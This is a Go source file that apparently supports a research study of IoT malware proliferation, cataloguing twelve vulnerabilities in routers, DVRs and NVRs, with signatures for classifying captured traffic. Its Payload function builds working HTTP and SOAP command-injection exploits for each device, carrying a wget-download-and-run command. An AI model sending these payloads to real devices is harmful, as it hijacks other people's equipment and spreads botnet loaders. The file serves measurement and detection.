// Package vuln is the vulnerability and exploit catalog behind the
// proliferation study (§4, Table 4, Figures 8–9): the twelve
// vulnerabilities the captured binaries exploited, faithful HTTP/SOAP
// exploit payload templates for each, and the signature matcher the
// handshaker uses to classify a captured payload.
package vuln

import (
	"bytes"
	"fmt"
	"time"
)

// PatchStatus is the vuldb-derived remediation situation (§4:
// "Vendors seem to rarely offer a patch").
type PatchStatus uint8

// Remediation categories.
const (
	PatchUnknown PatchStatus = iota
	PatchAvailable
	FirewallOnly
	ReplaceDevice
)

// String names the remediation category.
func (p PatchStatus) String() string {
	switch p {
	case PatchAvailable:
		return "patch available"
	case FirewallOnly:
		return "firewall mitigation only"
	case ReplaceDevice:
		return "replace device"
	}
	return "unknown"
}

// Vulnerability is one Table 4 row.
type Vulnerability struct {
	// ID is the paper's row number (rows with two CVEs share one).
	ID int
	// Key is the stable identifier used across the pipeline.
	Key string
	// CVEs lists assigned CVE numbers (may be empty: 5 of the
	// exploited vulnerabilities have none).
	CVEs []string
	// ExploitID is the public exploit database identifier, "" when
	// no public exploit exists.
	ExploitID string
	// Source is the database carrying the exploit (EDB, OPENVAS);
	// §4 notes no single source covers all of them.
	Source string
	// Published is the exploit publication date from Table 4.
	Published time.Time
	// Device is the targeted device line.
	Device string
	// Port is the TCP port the exploit rides on.
	Port uint16
	// Signature is the payload substring that uniquely identifies
	// the exploit on the wire.
	Signature string
	// Patch is the vuldb remediation status.
	Patch PatchStatus
	// PaperSamples is the "# Samples" column, used to calibrate
	// world generation and to check Table 4's shape.
	PaperSamples int
}

// AgeAt returns the exploit's age at the reference time.
func (v *Vulnerability) AgeAt(ref time.Time) time.Duration {
	return ref.Sub(v.Published)
}

// Label renders the vulnerability's display name: first CVE, or Key.
func (v *Vulnerability) Label() string {
	if len(v.CVEs) > 0 {
		return v.CVEs[0]
	}
	return v.Key
}

func d(y int, m time.Month, day int) time.Time {
	return time.Date(y, m, day, 0, 0, 0, 0, time.UTC)
}

// catalog holds the Table 4 rows, built once; byKey indexes them.
// Classify and Lookup read both directly, so the exploit path never
// rebuilds the table.
var (
	catalog = buildCatalog()
	byKey   = index(catalog)
)

// Catalog returns the Table 4 rows in paper order. The slice is the
// caller's to keep or reorder, but the rows are shared: callers must
// treat every *Vulnerability as read-only.
func Catalog() []*Vulnerability {
	return append([]*Vulnerability(nil), catalog...)
}

// ByKey indexes the catalog by Key in a map the caller owns; like
// Catalog, its rows are shared and read-only.
func ByKey() map[string]*Vulnerability { return index(catalog) }

// Lookup returns the catalog row with the given Key.
func Lookup(key string) (*Vulnerability, bool) {
	v, ok := byKey[key]
	return v, ok
}

func index(rows []*Vulnerability) map[string]*Vulnerability {
	m := make(map[string]*Vulnerability, len(rows))
	for _, v := range rows {
		m[v.Key] = v
	}
	return m
}

func buildCatalog() []*Vulnerability {
	return []*Vulnerability{
		{
			ID: 1, Key: "gpon-rce", CVEs: []string{"CVE-2018-10561", "CVE-2018-10562"},
			ExploitID: "EDB-44576", Source: "EDB", Published: d(2018, 5, 3),
			Device: "GPON Routers", Port: 80,
			Signature: "/GponForm/diag_Form", Patch: FirewallOnly,
			PaperSamples: 139,
		},
		{
			ID: 2, Key: "dlink-hnap", CVEs: []string{"CVE-2015-2051"},
			ExploitID: "EDB-ID-37171", Source: "EDB", Published: d(2015, 2, 23),
			Device: "D-Link Devices", Port: 80,
			Signature: "GetDeviceSettings", Patch: PatchAvailable,
			PaperSamples: 132,
		},
		{
			ID: 3, Key: "zyxel-viewlog", CVEs: []string{"CVE-2017-18368"},
			ExploitID: "", Source: "NVD", Published: d(2019, 5, 2),
			Device: "ZyXEL", Port: 80,
			Signature: "/cgi-bin/ViewLog.asp", Patch: PatchAvailable,
			PaperSamples: 38,
		},
		{
			ID: 4, Key: "vacron-nvr", CVEs: nil,
			ExploitID: "OPENVAS:1361412562310107187", Source: "OPENVAS", Published: d(2017, 10, 11),
			Device: "Vacron NVR", Port: 80,
			Signature: "/board.cgi?cmd=", Patch: PatchUnknown,
			PaperSamples: 46,
		},
		{
			ID: 5, Key: "huawei-hg532", CVEs: []string{"CVE-2017-17215"},
			ExploitID: "EDB-43414", Source: "EDB", Published: d(2018, 3, 20),
			Device: "Huawei Router HG532", Port: 37215,
			Signature: "/ctrlt/DeviceUpgrade_1", Patch: FirewallOnly,
			PaperSamples: 1,
		},
		{
			ID: 6, Key: "mvpower-dvr", CVEs: nil,
			ExploitID: "EDB-ID-41471", Source: "EDB", Published: d(2017, 2, 27),
			Device: "MVPower DVR TV-7104HE", Port: 80,
			Signature: "/shell?", Patch: ReplaceDevice,
			PaperSamples: 74,
		},
		{
			ID: 7, Key: "dlink-dir820l", CVEs: []string{"CVE-2021-45382"},
			ExploitID: "", Source: "NVD", Published: d(2021, 12, 19),
			Device: "D-Link DIR-820L command injection", Port: 80,
			Signature: "ping.ccp", Patch: ReplaceDevice,
			PaperSamples: 3,
		},
		{
			ID: 8, Key: "linksys-themoon", CVEs: nil,
			ExploitID: "EDB-ID-31683", Source: "EDB", Published: d(2014, 2, 16),
			Device: "Linksys E-series devices", Port: 8080,
			Signature: "/tmUnblock.cgi", Patch: FirewallOnly,
			PaperSamples: 2,
		},
		{
			ID: 9, Key: "eir-d1000", CVEs: nil,
			ExploitID: "EDB-ID-40740", Source: "EDB", Published: d(2016, 11, 8),
			Device: "Eir D1000 Wireless Router", Port: 7547,
			Signature: "NewNTPServer1", Patch: FirewallOnly,
			PaperSamples: 9,
		},
		{
			ID: 10, Key: "thinkphp-rce", CVEs: []string{"CVE-2018-20062"},
			ExploitID: "EDB-45978", Source: "EDB", Published: d(2018, 12, 11),
			Device: "Devices that use ThinkPHP", Port: 80,
			Signature: "invokefunction", Patch: PatchAvailable,
			PaperSamples: 2,
		},
		{
			ID: 11, Key: "nuuo-nvrmini", CVEs: []string{"CVE-2016-5680"},
			ExploitID: "EDB-ID-40200", Source: "EDB", Published: d(2016, 8, 31),
			Device: "NUUO NVRmini2 / NVRsolo / NETGEAR ReadyNAS", Port: 80,
			Signature: "__debugging_center_utils___", Patch: FirewallOnly,
			PaperSamples: 1,
		},
		{
			ID: 12, Key: "netlink-gpon", CVEs: nil,
			ExploitID: "EDB-48225", Source: "EDB", Published: d(2020, 3, 18),
			Device: "Netlink GPON Routers", Port: 8080,
			Signature: "/boaform/admin/formPing", Patch: PatchUnknown,
			PaperSamples: 2,
		},
	}
}

// Payload renders the wire bytes the exploit sends to a victim,
// parameterized by the downloader address ("host:port") and loader
// filename — the two fields §4 observes varying across otherwise
// template-identical exploits.
func (v *Vulnerability) Payload(downloader, loader string) []byte {
	cmd := fmt.Sprintf("cd /tmp; wget http://%s/%s; chmod 777 %s; sh %s", downloader, loader, loader, loader)
	switch v.Key {
	case "gpon-rce":
		body := fmt.Sprintf("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`%s`&ipv=0", cmd)
		return httpPOST("/GponForm/diag_Form?images/", "", body)
	case "dlink-hnap":
		soap := fmt.Sprintf("`%s`", cmd)
		return httpPOSTWith("/HNAP1/", map[string]string{
			"SOAPAction": fmt.Sprintf("\"http://purenetworks.com/HNAP1/GetDeviceSettings/%s\"", soap),
		}, "")
	case "zyxel-viewlog":
		return httpGET(fmt.Sprintf("/cgi-bin/ViewLog.asp?remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%%3b%s%%3b%%23", urlish(cmd)))
	case "vacron-nvr":
		return httpGET(fmt.Sprintf("/board.cgi?cmd=%s", urlish(cmd)))
	case "huawei-hg532":
		body := fmt.Sprintf("<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(%s)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>", cmd)
		return httpPOST("/ctrlt/DeviceUpgrade_1", "text/xml", body)
	case "mvpower-dvr":
		return httpGET(fmt.Sprintf("/shell?%s", urlish(cmd)))
	case "dlink-dir820l":
		body := fmt.Sprintf("ccp_act=ping_v6&ping_addr=$(%s)", cmd)
		return httpPOST("/ping.ccp", "", body)
	case "linksys-themoon":
		body := fmt.Sprintf("submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+`%s`&StartEPI=1", cmd)
		return httpPOST("/tmUnblock.cgi", "", body)
	case "eir-d1000":
		body := fmt.Sprintf("<?xml version=\"1.0\"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`%s`</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>", cmd)
		return httpPOST("/UD/act?1", "text/xml", body)
	case "thinkphp-rce":
		return httpGET(fmt.Sprintf("/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=%s", urlish(cmd)))
	case "nuuo-nvrmini":
		return httpGET(fmt.Sprintf("/__debugging_center_utils___.php?log=;%s", urlish(cmd)))
	case "netlink-gpon":
		body := fmt.Sprintf("target_addr=;%s&waninf=1_INTERNET_R_VID_", cmd)
		return httpPOST("/boaform/admin/formPing", "", body)
	}
	return nil
}

func urlish(s string) string {
	// Percent-encode the separators the way public exploit PoCs do
	// (enough for signature realism; not a general URL encoder).
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case ' ':
			out = append(out, "%20"...)
		case ';':
			out = append(out, "%3B"...)
		default:
			out = append(out, s[i])
		}
	}
	return string(out)
}

func httpGET(path string) []byte {
	return []byte(fmt.Sprintf("GET %s HTTP/1.1\r\nHost: victim\r\nUser-Agent: Hello, world\r\nConnection: close\r\n\r\n", path))
}

func httpPOST(path, contentType, body string) []byte {
	hdrs := map[string]string{}
	if contentType != "" {
		hdrs["Content-Type"] = contentType
	}
	return httpPOSTWith(path, hdrs, body)
}

func httpPOSTWith(path string, hdrs map[string]string, body string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "POST %s HTTP/1.1\r\nHost: victim\r\n", path)
	for _, k := range []string{"SOAPAction", "Content-Type"} {
		if v, ok := hdrs[k]; ok {
			fmt.Fprintf(&b, "%s: %s\r\n", k, v)
		}
	}
	fmt.Fprintf(&b, "Content-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
	return b.Bytes()
}

// Classify identifies which catalog vulnerabilities a captured
// payload exploits, in catalog order. One payload can match several
// rows with a shared signature (the GPON CVE pair travels in one
// request).
func Classify(payload []byte) []*Vulnerability {
	var out []*Vulnerability
	for _, v := range catalog {
		if bytes.Contains(payload, []byte(v.Signature)) {
			out = append(out, v)
		}
	}
	return out
}

// LoaderNames returns Figure 9's loader filenames with their paper
// frequencies, most common first.
func LoaderNames() []struct {
	Name  string
	Count int
} {
	return []struct {
		Name  string
		Count int
	}{
		{"t8UsA2.sh", 14},
		{"Tsunamix6", 12},
		{"ddns.sh", 8},
		{"8UsA.sh", 6},
		{"wget.sh", 5},
		{"zyxel.sh", 4},
		{"jaws.sh", 2},
	}
}
